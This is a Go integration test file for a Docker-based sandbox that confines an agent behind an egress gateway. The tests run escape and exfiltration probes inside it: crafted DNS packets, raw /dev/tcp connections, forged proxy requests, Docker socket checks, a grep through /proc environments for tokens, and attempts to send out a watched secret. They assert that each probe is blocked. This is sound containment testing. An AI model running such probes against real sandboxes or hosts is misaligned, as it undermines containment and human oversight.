package integration

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"bottle/internal/backend"
	"bottle/internal/backend/docker"
	"bottle/internal/bottle"
	"bottle/internal/plan"
	"bottle/internal/policy"
	"bottle/test/require"
)

// dockerBottle puts up a bottle with one route, allowed.example, to upstream.
func dockerBottle(t testing.TB, be backend.Backend, upstream string, secrets string) (backend.Bottle, bottle.Identity) {
	t.Helper()
	id, p, gw := dockerPlan(t.TempDir(), upstream)
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	b, err := be.Create(ctx, p, gw, []byte(secrets))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := b.Close(); err != nil {
			t.Error(err)
		}
	})
	ca := []byte(b.Hello().CA)
	if err := b.Place(ctx, []plan.File{{Path: plan.CAPath, Mode: 0o644, Content: ca}, {Path: plan.BundlePath, Mode: 0o644, Content: ca}}); err != nil {
		t.Fatal(err)
	}
	return b, id
}

func dockerPlan(state, upstream string) (bottle.Identity, plan.Bottle, plan.Gateway) {
	id := bottle.Identity("attack-" + strings.ToLower(rand.Text()[:5]))
	p := plan.Bottle{Identity: string(id), Version: bottle.Version, Hostname: string(id), State: state, Workspace: plan.WorkspaceMount{Mode: "none"}, Ports: []uint16{80, 443}}
	v4, v6 := policy.SpecialPrefixes()
	for _, pre := range append(v4, v6...) {
		// The kernel shall take one documentation network for a public one, so that the
		// gateway is asked about an address that no route lists.
		if pre.String() != "198.51.100.0/24" {
			p.Special = append(p.Special, pre.String())
		}
	}
	route := bottle.Route{
		Host: bottle.Pattern{Host: "allowed.example"}, Ports: []uint16{80}, TLS: "intercept", DLP: "block", Rule: "test.md:1",
		Auth: &bottle.Auth{Scheme: "Bearer", TokenRef: "TOKEN"}, Upstream: &bottle.Upstream{Address: upstream},
	}
	gw := plan.Gateway{Version: bottle.Version, Identity: id, Bottle: "attack", Audit: filepath.Join(state, "audit.jsonl"), Inherit: true, Routes: []bottle.Route{route}}
	return id, p, gw
}

// bash runs a script inside and returns what it said.
func bash(t testing.TB, b backend.Bottle, script string) string {
	t.Helper()
	var out bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	code, err := b.Run(ctx, plan.Command{Args: []string{"/bin/bash", "-c", script}, Env: []string{"PATH=/usr/bin:/bin", "HOME=" + plan.Home}, Dir: "/"},
		backend.Stdio{In: strings.NewReader(""), Out: &out, Err: &out})
	if err != nil || code != 0 {
		t.Fatalf("exit %d, %v\n%s", code, err, out.String())
	}
	return out.String()
}

// wiretap counts the frames with a word on every interface of the host.
type wiretap struct {
	fd    int
	words []string
	seen  []atomic.Int64
	done  sync.WaitGroup

	astray atomic.Int64 // IPv4 frames to a documentation network
}

// astray reads the destination of an Ethernet frame with IPv4 (RFC 894, RFC 791).
func astray(frame []byte) bool {
	if len(frame) < 34 || frame[12] != 8 || frame[13] != 0 {
		return false
	}
	to := [3]byte(frame[30:33])
	return to == [3]byte{192, 0, 2} || to == [3]byte{198, 51, 100} || to == [3]byte{203, 0, 113}
}

func tap(t *testing.T, words ...string) *wiretap {
	t.Helper()
	const all = 0x0003 // ETH_P_ALL
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(all<<8))
	if err != nil {
		t.Fatal(err)
	}
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 50_000}); err != nil {
		t.Fatal(err)
	}
	w := &wiretap{fd: fd, words: words, seen: make([]atomic.Int64, len(words))}
	stop := make(chan struct{})
	w.done.Go(func() {
		buf := make([]byte, 64<<10)
		for {
			n, _, err := unix.Recvfrom(fd, buf, 0)
			if err == nil && astray(buf[:n]) {
				w.astray.Add(1)
			}
			for i, word := range words {
				if err == nil && bytes.Contains(buf[:n], []byte(word)) {
					w.seen[i].Add(1)
				}
			}
			select {
			case <-stop:
				return
			default:
			}
		}
	})
	t.Cleanup(func() {
		close(stop)
		w.done.Wait()
		unix.Close(fd)
	})
	return w
}

func word(t testing.TB, kind string) string {
	t.Helper()
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		t.Fatal(err)
	}
	return kind + hex.EncodeToString(b[:])
}

// hostAddress is the host's own on Docker's bridge, which a bundle can reach and an
// agent must not.
func hostAddress(t testing.TB) string {
	t.Helper()
	i, err := net.InterfaceByName("docker0")
	if err != nil {
		require.Missing(t, "docker", "its bridge docker0: "+err.Error())
	}
	list, err := i.Addrs()
	if err != nil || len(list) == 0 {
		t.Fatal(list, err)
	}
	return list[0].(*net.IPNet).IP.String()
}

// sentinel is a listener on all addresses of the host that nobody may reach.
func sentinel(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			t.Errorf("%s reached the host's service", c.RemoteAddr())
			c.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(l.Addr().String()) // it is one
	return port
}

// behind is the server behind allowed.example.
func behind(t *testing.T, host string) (addr string, got func() string) {
	t.Helper()
	var mu sync.Mutex
	var all strings.Builder
	l, err := net.Listen("tcp4", host+":0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body bytes.Buffer
		_, _ = body.ReadFrom(r.Body) // what came is what counts
		mu.Lock()
		defer mu.Unlock()
		fmt.Fprintf(&all, "%s %s %v %s\n", r.Method, r.RequestURI, r.Header, body.String())
		fmt.Fprintln(w, "the upstream")
	})}}
	srv.Start()
	t.Cleanup(srv.Close)
	return l.Addr().String(), func() string {
		mu.Lock()
		defer mu.Unlock()
		return all.String()
	}
}

// engineSays is what the engine tells anybody about a bottle: inspect of everything, and logs.
func engineSays(t *testing.T, id bottle.Identity) string {
	t.Helper()
	name := "bottle-" + string(id)
	script := `docker inspect $(docker ps -aq --filter label=bot-bottle.identity=` + string(id) + `) ` + name + `-meet ` + name + `-egress; docker logs ` + name + `-gateway 2>&1; docker logs ` + name + `-agent 2>&1; :`
	out, err := exec.Command("sh", "-c", script).CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	return string(out)
}

// ask is a function of bash: send a request head to the gateway's proxy and print the
// first line of the answer.
const ask = `ask() { exec 3<>/dev/tcp/127.0.0.1/9099 && printf "$1" >&3 && IFS= read -r -t 5 line <&3; echo "$2: ${line%$'\r'}"; exec 3>&-; }
`

// TestDockerNothingLeaves: crafted DNS labels, an unlisted address with a listed Host,
// the engine's and the bundle's addresses, and the host's services, with a tap on all
// interfaces of the host. One request that is allowed shows that the tap sees.
func TestDockerNothingLeaves(t *testing.T) {
	walls := dockerWalls(t)
	require.Tool(t, "docker")
	host := hostAddress(t)
	addr, got := behind(t, host)
	port := sentinel(t)
	bad, fine := word(t, "crafted"), word(t, "fine")
	w := tap(t, bad, fine)
	b, id := dockerBottle(t, walls(), addr, `{"values":{"TOKEN":"a-token-of-the-test"}}`)
	peers := strings.Fields(run(t, "docker", "inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{.Gateway}}{{end}}", "bottle-"+string(id)+"-gateway"))
	if len(peers) != 2 {
		t.Fatalf("the bundle's address and gateway: %q", peers)
	}
	var s strings.Builder
	s.WriteString(ask)
	label := fmt.Sprintf(`\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x%02x%s\x07example\x00\x00\x01\x00\x01`, len(bad), bad)
	for _, server := range append(peers, "127.0.0.11", "127.0.0.1", "192.0.2.53", host) {
		fmt.Fprintf(&s, "(printf '%s' >/dev/udp/%s/53; printf '\\x00\\x35%s' >/dev/tcp/%s/53) 2>/dev/null\n", label, server, label, server)
	}
	fmt.Fprintf(&s, "getent hosts %s.example %s.allowed.example && echo RESOLVED\n", bad, bad)
	for _, to := range append(peers, host, "172.17.0.1", "127.0.0.1") {
		fmt.Fprintf(&s, "(exec 3<>/dev/tcp/%s/%s) 2>/dev/null && echo REACHED %s\n", to, port, to)
		fmt.Fprintf(&s, `ask 'CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n' connect`+"\n", to, port, to, port)
		fmt.Fprintf(&s, `ask 'GET http://%s:%s/%s HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n' forged`+"\n", to, port, bad)
	}
	direct := `(line=; exec 4<>/dev/tcp/%s/80 && printf 'GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' >&4 && IFS= read -r -t 5 line <&4; echo "%s: ${line:-nothing}") 2>/dev/null` + "\n"
	// The gateway believes the name and not the address: it goes to the name's upstream.
	fmt.Fprintf(&s, direct, "198.51.100.7", fine, "allowed.example", "listed")
	fmt.Fprintf(&s, direct, "198.51.100.7", bad, "198.51.100.7", "address")
	fmt.Fprintf(&s, direct, "198.51.100.7", bad, "other.example", "unlisted")
	fmt.Fprintf(&s, direct, "203.0.113.7", bad, "allowed.example", "special")
	fmt.Fprintf(&s, `ask 'GET http://198.51.100.7/%s HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n' proxied`+"\n", bad)
	s.WriteString("ls /var/run/docker.sock /run/docker.sock 2>/dev/null && echo SOCKET; cat /etc/resolv.conf; ls /sys/class/net 2>/dev/null; cat /proc/net/dev | grep -c :\n")
	fmt.Fprintf(&s, `ask 'GET http://allowed.example/%s HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n' allowed`+"\n", fine)
	out := bash(t, b, s.String())
	t.Log(out)
	for _, want := range []string{"\nlisted: HTTP/1.1 200", "\naddress: HTTP/1.1 4", "\nunlisted: HTTP/1.1 4", "\nspecial: nothing\n", "\nallowed: HTTP/1.1 200"} {
		if !strings.Contains(out, want) {
			t.Errorf("inside, not %q", want)
		}
	}
	for line := range strings.Lines(out) {
		for _, kind := range []string{"connect", "forged", "proxied"} {
			if strings.HasPrefix(line, kind+": ") && !strings.HasPrefix(line, kind+": HTTP/1.1 4") {
				t.Errorf("inside: %s", line)
			}
		}
	}
	for _, no := range []string{"REACHED", "RESOLVED", "SOCKET"} {
		if strings.Contains(out, no) {
			t.Errorf("inside: %s", no)
		}
	}
	if !strings.Contains(out, "nameserver 127.0.0.1\n") || strings.Contains(out, "127.0.0.11") {
		t.Error("the agent's resolver is not the gateway alone")
	}
	if !strings.Contains(got(), fine) || strings.Contains(got(), bad) {
		t.Errorf("the upstream got %q", got())
	}
	if n := w.seen[0].Load(); n != 0 {
		t.Errorf("%d frames on the host carried the agent's word", n)
	}
	if n := w.astray.Load(); n != 0 {
		t.Errorf("%d frames went to the address that no route lists", n)
	}
	if w.seen[1].Load() == 0 {
		t.Error("the tap saw nothing at all: it proves nothing")
	}
}

func run(t testing.TB, argv ...string) string {
	t.Helper()
	out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %v\n%s", argv, err, out)
	}
	return string(out)
}

// TestDockerKeepsSecrets: a credential is injected and is nowhere else: not with the
// engine, and not inside. A watched value does not leave by path, query, header or body.
func TestDockerKeepsSecrets(t *testing.T) {
	walls := dockerWalls(t)
	require.Tool(t, "docker")
	addr, got := behind(t, hostAddress(t))
	token, watched := word(t, "token"), word(t, "watched")
	b, id := dockerBottle(t, walls(), addr, fmt.Sprintf(`{"values":{"TOKEN":%q},"watched":{"env:OTHER":%q}}`, token, watched))
	const tail = `HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n`
	script := ask + strings.Join([]string{
		`ask 'GET http://allowed.example/ ` + tail + `\r\n' allowed`,
		`ask 'GET http://allowed.example/` + watched + ` ` + tail + `\r\n' path`,
		`ask 'GET http://allowed.example/?q=` + watched + ` ` + tail + `\r\n' query`,
		`ask 'GET http://allowed.example/ ` + tail + `X-Note: ` + watched + `\r\n\r\n' header`,
		`ask 'POST http://allowed.example/ ` + tail + fmt.Sprintf(`Content-Length: %d\r\n\r\n%s`, len(watched), watched) + `' body`,
		`grep -la '[t]` + token[1:] + `' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /etc/ssl/* /run/* /tmp/* 2>/dev/null | sed 's/^/FOUND /'`,
		`env; cat /proc/self/mountinfo`,
	}, "\n")
	says := engineSays(t, id)
	out := bash(t, b, script)
	t.Log(out)
	if !strings.Contains(out, "allowed: HTTP/1.1 200") || !strings.Contains(got(), "Bearer "+token) {
		t.Errorf("the credential was not injected: %s", got())
	}
	for _, part := range []string{"path", "query", "header", "body"} {
		if !strings.Contains(out, part+": HTTP/1.1 403") {
			t.Errorf("the watched value in the %s was not refused", part)
		}
	}
	if strings.Contains(got(), watched) {
		t.Errorf("the watched value left: %s", got())
	}
	if !strings.Contains(says, "bot-bottle.identity") || !strings.Contains(says, "bottle-"+string(id)+"-agent") {
		t.Fatalf("the engine said too little to prove anything: %s", says)
	}
	if strings.Contains(says, token) || strings.Contains(says, watched) || strings.Contains(out, token) || strings.Contains(out, "FOUND") {
		t.Error("a secret is with the engine, or inside")
	}
	for _, want := range []string{`"ReadonlyRootfs": true`, `"no-new-privileges:true"`} {
		if strings.Count(says, want) < 2 {
			t.Errorf("not of both containers: %s", want)
		}
	}
	for _, no := range []string{`"Privileged": true`, `docker.sock`, `"HostPort"`, `"NET_ADMIN"`, `"PidMode": "host"`} {
		if strings.Contains(says, no) {
			t.Errorf("the containers have %s", no)
		}
	}
}

// dockerFaultWord is the first argument of this program when it is a start in Docker
// that is killed.
const dockerFaultWord = "integration-docker-fault"

// dockerFaulty puts a bottle up and dies at step.
func dockerFaulty(be backend.Backend, state, step string) int {
	_, p, gw := dockerPlan(state, "192.0.2.1:80")
	p.Identity, gw.Identity = filepath.Base(state), bottle.Identity(filepath.Base(state))
	b, err := be.Create(context.Background(), p, gw, []byte(`{"values":{"TOKEN":"x-token"}}`))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 91
	}
	if step != "rising" {
		if err := b.Place(context.Background(), nil); err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 92
		}
	}
	_ = syscall.Kill(os.Getpid(), syscall.SIGKILL) // it does not return
	return 93
}

// TestDockerStartKilled: what a killed start leaves ends by itself but for what has no
// process, and cleanup finds that by its label, twice.
func TestDockerStartKilled(t *testing.T) {
	be := dockerWalls(t)()
	d := be.(givenToAgent).Backend.(*docker.Docker)
	t.Setenv("BOTTLE_FAULT_BIN", filepath.Dir(d.JailPath))
	t.Setenv("BOTTLE_FAULT_IMAGE", d.Image)
	t.Setenv("BOTTLE_FAULT_BUNDLE", d.Bundle)
	t.Setenv("DOCKER_HOST", d.Host)
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	for _, step := range []string{"rising", "standing"} {
		t.Run(step, func(t *testing.T) {
			id := "killed-" + strings.ToLower(rand.Text()[:5])
			state := filepath.Join(t.TempDir(), id)
			if err := os.Mkdir(state, 0o700); err != nil {
				t.Fatal(err)
			}
			out, err := exec.Command(exe, dockerFaultWord, state, step).CombinedOutput()
			if err == nil || !strings.Contains(err.Error(), "killed") {
				t.Fatalf("%v\n%s", err, out)
			}
			find := func() (list []backend.Leftover) {
				all, err := be.Find(context.Background())
				if err != nil {
					t.Fatal(err)
				}
				for _, l := range all {
					if string(l.Identity) == id {
						list = append(list, l)
					}
				}
				return list
			}
			if len(find()) == 0 {
				t.Fatal("nothing was left: it proves nothing")
			}
			require.Eventually(t, limit, "no container lives", func() bool {
				for _, l := range find() {
					if l.Held {
						return false
					}
				}
				return true
			})
			for range 2 {
				for _, l := range find() {
					if err := be.Remove(context.Background(), l); err != nil {
						t.Errorf("remove %+v: %v", l, err)
					}
				}
			}
			if left := find(); len(left) != 0 {
				t.Errorf("left: %+v", left)
			}
		})
	}
}

// maxBundleMiB is what a bundle may take of memory when it is idle.
const maxBundleMiB = 25

// bundleMiB is what the gateway's container of a bottle takes once it serves.
func bundleMiB(t testing.TB, b backend.Bottle, id bottle.Identity) (n float64) {
	t.Helper()
	if b.Ready().PolicyHash == "" {
		t.Fatal("it does not serve")
	}
	var unit string
	out := run(t, "docker", "stats", "--no-stream", "--format", "{{.MemUsage}}", "bottle-"+string(id)+"-gateway")
	if _, err := fmt.Sscanf(out, "%f%s", &n, &unit); err != nil || unit != "MiB" || n < 1 {
		t.Fatalf("the bundle takes %s (%v)", strings.TrimSpace(out), err)
	}
	return n
}

// TestDockerBundleIsSmall: what the gateway's container takes of memory when nobody asks
// it for anything. It counts all of it: the program's pages that were read, too.
func TestDockerBundleIsSmall(t *testing.T) {
	walls := dockerWalls(t)
	require.Tool(t, "docker")
	b, id := dockerBottle(t, walls(), "192.0.2.1:80", `{"values":{"TOKEN":"of-the-test"}}`)
	if n := bundleMiB(t, b, id); n > maxBundleMiB {
		t.Errorf("the bundle takes %.1f MiB, at most %d", n, maxBundleMiB)
	}
}
